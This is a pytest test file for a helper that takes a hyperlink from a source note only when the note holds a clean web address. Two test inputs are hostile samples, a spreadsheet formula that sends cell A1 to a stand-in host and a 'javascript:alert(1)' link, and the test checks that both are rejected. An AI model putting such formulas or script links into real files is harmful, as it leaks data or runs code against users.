"""A source note's web address becomes the source cell's hyperlink only when it stands alone as an address."""
import pytest

from builder.safety.text import last_link


@pytest.mark.parametrize("note, link", [
    ("Annual report 2023; 2024A: 20-F https://example.com/f/20-F.htm", "https://example.com/f/20-F.htm"),
    ("10-K https://a.example/x, then https://b.example/y.", "https://b.example/y"),   # the newest, no full stop
    ("Table 8 (company filings)", None),
    ('=IMPORTXML(CONCAT("http://x/?",A1),"//a")', None),                             # formula-like text
    ("see http://x.example/" + "a" * 300, None),                                      # past 255 characters
    ("ftp://files.example/report.pdf", None),                                          # web addresses only
    ("javascript:alert(1) http://ok.example/p", "http://ok.example/p"),
])
def test_last_link(note, link):
    assert last_link(note) == link
